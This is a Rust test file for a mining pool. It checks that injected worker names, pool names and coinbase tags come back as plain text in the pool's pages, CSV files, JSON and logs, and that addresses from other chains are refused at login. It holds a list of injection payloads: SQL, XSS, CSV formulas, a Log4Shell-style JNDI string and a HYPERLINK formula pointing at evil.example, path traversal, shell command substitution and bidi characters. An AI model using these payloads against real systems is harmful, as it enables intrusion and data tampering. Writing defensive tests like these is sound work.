//! What others call themselves, wherever it is shown: a name is a text, in pages, files, JSON and logs. And
//! addresses, which are names that are paid: those of other chains are nobody here.

use serde_json::{Value, json};

use crate::support::{ADDRESS, FIXED_DIFFICULTY, Miner, Pool, PoolSettings, Rig, node::Node};

/// What a spreadsheet, a browser, a shell, a template or a database might take for its own.
const PAYLOADS: [&str; 13] = [
    "'; DROP TABLE shares;--",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>",
    "=HYPERLINK(\"http://evil.example\")",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "a\u{202e}b\u{200b}c",
    "..%2f..%2fetc",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "$(touch x)`touch y`",
    "javascript:alert(3)",
];

/// A share of a miner with this name, from a device that calls itself so; its answer. Nothing if the name
/// is not even let in.
fn mine_as(rig: &Rig, name: &str, nth: u64) -> Option<Value> {
    let mut miner = Miner::connect(rig.pool.miners);
    let user = format!("{ADDRESS}.{name}");
    let agent: String = name.chars().take(60).collect();
    miner.subscribe(&agent);
    let reply = miner.ask("mining.authorize", json!([user, "x"]));
    if reply["error"][1] == "user is malformed" {
        return None;
    }
    assert_eq!(reply["result"], true, "{name}: {reply}");
    while miner.job.is_none() {
        miner.hear();
    }
    let share = miner.share(nth);
    Some(miner.ask("mining.submit", Miner::params(&user, &share)))
}

#[test]
fn a68_injected_names_are_plain_text_in_pages_files_json_and_logs() {
    let rig = Rig::heavy(FIXED_DIFFICULTY);
    let long = "x".repeat(900);
    for (nth, payload) in PAYLOADS.into_iter().chain([long.as_str()]).enumerate() {
        let answer = mine_as(&rig, payload, u64::try_from(nth).unwrap());
        if let Some(answer) = answer {
            assert_eq!(answer["result"], true, "{payload}: {answer}");
        }
    }
    let paths = [
        "/".to_owned(),
        format!("/miners/{ADDRESS}"),
        format!("/miners/{ADDRESS}/why"),
        "/connect".to_owned(),
        "/blocks".to_owned(),
        "/api/v1/status".to_owned(),
        format!("/api/v1/miners/{ADDRESS}/workers"),
        format!("/api/v1/miners/{ADDRESS}/statement.csv"),
        "/metrics".to_owned(),
    ];
    for path in &paths {
        let answer = rig.pool.question("GET", path).ask();
        assert_eq!(answer.status, 200, "{path}");
        let kind = answer.header("content-type").to_owned();
        assert_eq!(answer.header("x-content-type-options"), "nosniff", "{path}");
        if path.starts_with("/api") {
            assert!(kind.starts_with("application/json") || kind.starts_with("text/csv"));
        }
        if kind.starts_with("text/html") {
            for active in [
                "<script>alert",
                "<img src=x",
                "href=\"javascript:",
                "\u{202e}",
            ] {
                assert!(!answer.text.contains(active), "{path} has {active}");
            }
        }
        if kind.starts_with("text/csv") {
            let mut cells = answer.text.lines().flat_map(|line| line.split(','));
            let formula = |cell: &str| {
                let begins = cell
                    .trim_matches('"')
                    .starts_with(['=', '+', '@', '\t', '\r']);
                begins || (cell.starts_with('-') && cell.parse::<i64>().is_err())
            };
            assert!(!cells.any(formula), "{path}: {}", answer.text);
        }
    }
    // Names are kept as what plain names are made of, each still another one.
    let workers = rig.pool.question("GET", &paths[6]).ask().json();
    let names: Vec<&str> = workers["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|worker| worker["name"].as_str().unwrap())
        .collect();
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._+-".contains(c);
    for name in &names {
        assert!(name.len() <= 64 && name.chars().all(is_plain), "{name:?}");
    }
    assert!(names.len() > 5, "{names:?}");
    let log = rig.pool.process.log_text();
    assert!(!log.contains('\u{202e}') && !log.contains('\u{200b}'));
}

/// A69: what the operator's own names are made of is text too: a pool's name and the coinbase's text, which
/// a copied configuration may bring along.
#[test]
fn a69_the_names_of_pools_and_coinbases_are_text() {
    let folder = tempfile::tempdir().unwrap();
    let node = Node::simnet(&folder);
    let settings = |pool| PoolSettings {
        pool,
        daemons: node.rpc.daemon(),
        ..PoolSettings::default()
    };
    // A pool's name is in URLs too, and has to be plain.
    let evil = settings("name = \"<script>alert(4)</script>\"");
    let mut refused = Pool::start_without_waiting(&folder, &evil);
    assert_eq!(refused.process.wait().code(), Some(64));
    drop(refused);
    let pool = Pool::start(
        &folder,
        &settings("coinbase_tag = \"</b><script>alert(5)</script>\""),
    );
    let mut miner = Miner::ready(pool.miners);
    let block = miner.block(1, None);
    assert_eq!(miner.submit(&block)["result"], true);
    for path in [
        "/",
        "/connect",
        "/blocks",
        "/payouts",
        "/verify",
        &format!("/miners/{ADDRESS}"),
    ] {
        let answer = pool.question("GET", path).ask();
        assert_eq!(answer.status, 200, "{path}");
        assert!(
            !answer.text.contains("<script>alert"),
            "{path}: {}",
            answer.text
        );
        let policy = answer.header("content-security-policy").to_owned();
        assert!(policy.starts_with("default-src 'none'"), "{policy}");
    }
    let status = pool.question("GET", "/api/v1/status").ask();
    assert_eq!(status.header("content-type"), "application/json");
    // What is typed into the address bar comes back as text as well.
    let typed = pool
        .question("GET", "/connect?address=%3Cscript%3Ealert(6)%3C/script%3E")
        .ask();
    assert!(!typed.text.contains("<script>alert"), "{}", typed.text);
}

/// A74: an address of another network or coin, with a letter wrong, in mixed case or with the checksum of
/// another version is nobody's here, and is told so at login, before any work is done for it.
#[test]
fn a74_an_address_of_another_chain_is_refused_at_login() {
    let rig = Rig::new();
    let log_in = |user: &str| {
        let mut miner = Miner::connect(rig.pool.miners);
        miner.subscribe("test/1");
        miner.ask("mining.authorize", json!([user, "x"]))
    };
    let typo = ADDRESS.replace("w508", "w509");
    let mixed = ADDRESS.replace("qw508", "qW508");
    for foreign in [
        "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
        "tb1qw508d6qejxtdg4y5r3zarvary0c5xw7kxpjzsx",
        "ltc1qw508d6qejxtdg4y5r3zarvary0c5xw7kgmn4n9",
        "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
        "3P14159f73E4gFr7JterCCQh9QjiTjiZrG",
        "DH5yaieqoZN36fDVciNyRueRGvGLR3mr7L",
        "bitcoincash:qpm2qsznhks23z7629mms6s4cwef74vcwvy22gdx6a",
        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
        &typo,
        &mixed,
    ] {
        let reply = log_in(&format!("{foreign}.rig"));
        assert_ne!(reply["result"], true, "{foreign}: {reply}");
        assert!(!reply["error"].is_null(), "{foreign}: {reply}");
    }
    assert_eq!(rig.pool.status()["connected"], 0);
    for own in [ADDRESS, &ADDRESS.to_uppercase()] {
        assert_eq!(log_in(own)["result"], true, "{own}");
    }
}
